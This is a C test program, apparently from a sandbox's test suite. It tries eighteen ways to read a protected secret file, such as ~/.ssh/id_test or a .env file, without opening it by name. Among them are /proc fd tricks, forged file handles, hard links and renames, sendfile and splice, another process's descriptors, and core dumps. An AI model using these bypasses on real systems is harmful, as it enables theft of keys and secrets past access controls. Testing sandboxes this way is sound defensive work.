/* A secret's bytes by way of calls other than open-and-read of its name. argv[1]: the way. */
#include "attack.h"
#include <dirent.h>
#include <sys/sendfile.h>

static int copy_to(void)
{
	return open(in("P", "loot"), O_RDWR | O_CREAT | O_TRUNC, 0644);
}

static void proc_fd(int flags)
{
	char name[64];
	int fd = open(var("S"), flags);

	snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
	loot_fd(open(name, O_RDONLY));
}

static void by_dirfd(void)
{
	int dir = open(in("HOME", ".ssh"), O_PATH | O_DIRECTORY);

	loot_fd(openat(dir, "id_test", O_RDONLY));
}

static void by_getdents(void)
{
	DIR *d = opendir(in("HOME", ".ssh"));
	struct dirent *e;

	while (d && (e = readdir(d)))
		if (e->d_name[0] != '.')
			loot_fd(openat(dirfd(d), e->d_name, O_RDONLY));
}

static void by_handle(void)
{
	struct {
		struct file_handle h;
		unsigned char bytes[MAX_HANDLE_SZ];
	} f = {.h.handle_bytes = MAX_HANDLE_SZ};
	int mount_id, mount_fd = open(var("HOME"), O_RDONLY | O_DIRECTORY);

	if (name_to_handle_at(AT_FDCWD, var("S"), &f.h, &mount_id, 0) < 0)
		attack_skip("no file handles here");
	int fd = open_by_handle_at(mount_fd, &f.h, O_RDONLY);

	if (fd < 0 && errno == EPERM)
		attack_skip("open_by_handle_at needs root here");
	loot_fd(fd);
}

/* The inode number is easily guessed, so a handle can be made up: ext4's is (ino, generation 0..).
 */
static void by_parent_handle(void)
{
	struct {
		struct file_handle h;
		unsigned char bytes[MAX_HANDLE_SZ];
	} f = {.h.handle_bytes = MAX_HANDLE_SZ};
	int mount_id, mount_fd = open(var("P"), O_RDONLY | O_DIRECTORY);

	if (name_to_handle_at(AT_FDCWD, in("HOME", ".ssh"), &f.h, &mount_id, 0) < 0)
		attack_skip("no file handles here");
	int dir = open_by_handle_at(mount_fd, &f.h, O_RDONLY | O_DIRECTORY);

	if (dir < 0 && errno == EPERM)
		attack_skip("open_by_handle_at needs root here");
	loot_fd(openat(dir, "id_test", O_RDONLY));
}

static void by_hardlink(void)
{
	say("link", link(var("S"), in("P", "k")));
	loot_fd(open(in("P", "k"), O_RDONLY));
}

static void by_rename(void)
{
	say("rename", rename(in("P", ".env"), in("P", "plain")));
	loot_fd(open(in("P", "plain"), O_RDONLY));
}

static void by_parent_rename(void)
{
	say("rename", rename(in("HOME", ".ssh"), in("P", "ssh")));
	loot_fd(open(in("P", "ssh/id_test"), O_RDONLY));
}

static void by_mmap(void)
{
	char *p = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, open(var("S"), O_RDONLY), 0);

	if (p != MAP_FAILED)
		loot(p, (ssize_t)strlen(p));
}

static void by_sendfile(void)
{
	say("sendfile", sendfile(copy_to(), open(var("S"), O_RDONLY), NULL, 4096));
}

static void by_copy_range(void)
{
	say("copy", copy_file_range(open(var("S"), O_RDONLY), NULL, copy_to(), NULL, 4096, 0));
}

static void by_splice(void)
{
	int p[2];

	if (pipe(p) < 0)
		return;
	say("splice", splice(open(var("S"), O_RDONLY), NULL, p[1], NULL, 4096, SPLICE_F_NONBLOCK));
	fcntl(p[0], F_SETFL, O_NONBLOCK);
	loot_fd(p[0]);
}

static void by_victim(const char *form)
{
	char name[PATH_MAX];

	for (int fd = 3; fd < 12; fd++) {
		snprintf(name, sizeof name, form, var("VICTIM"), fd);
		int s = open(name, O_RDONLY);

		if (s >= 0 && lseek(s, 0, SEEK_SET) == 0)
			loot_fd(s);
	}
}

static void by_victim_root(void)
{
	char name[PATH_MAX];

	snprintf(name, sizeof name, "/proc/%s/root%s", var("VICTIM"), var("S"));
	loot_fd(open(name, O_RDONLY));
}

static void by_inherited(void)
{
	char buf[4096];

	for (int fd = 3; fd < 64; fd++) {
		ssize_t n = pread(fd, buf, sizeof buf, 0);

		if (n > 0)
			loot(buf, n);
		loot_fd(openat(fd, "../.ssh/id_test", O_RDONLY));
		(void)!pwrite(fd, "inherited", 9, 0);
	}
}

static void by_thread(void)
{
	if (fork() == 0) {
		syscall(SYS_setsid);
		loot_fd(open(var("S"), O_RDONLY));
		_exit(0);
	}
	wait(NULL);
}

static void by_core(void)
{
	char buf[4096] = "";
	int fd = open(var("S"), O_RDONLY);

	(void)!read(fd, buf, sizeof buf - 1);
	char *keep = strdup(buf);

	prctl(PR_SET_DUMPABLE, 1);
	(void)!chdir(var("P"));
	loot(keep, (ssize_t)strlen(keep));
	abort();
}

int main(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	const char *way = argv[1];

	attack_begin();
#define WAY(name, call)                                                                            \
	if (strcmp(way, name) == 0) {                                                              \
		call;                                                                              \
		return 0;                                                                          \
	}
	WAY("proc-fd", proc_fd(O_RDONLY))
	WAY("opath", proc_fd(O_PATH))
	WAY("dirfd", by_dirfd())
	WAY("getdents", by_getdents())
	WAY("handle", by_handle())
	WAY("parent-handle", by_parent_handle())
	WAY("hardlink", by_hardlink())
	WAY("rename-env", by_rename())
	WAY("parent-rename", by_parent_rename())
	WAY("mmap", by_mmap())
	WAY("sendfile", by_sendfile())
	WAY("copy-range", by_copy_range())
	WAY("splice", by_splice())
	WAY("victim-fd", by_victim("/proc/%s/fd/%d"))
	WAY("victim-root", by_victim_root())
	WAY("inherited", by_inherited())
	WAY("child", by_thread())
	WAY("core", by_core())
	return 2;
}
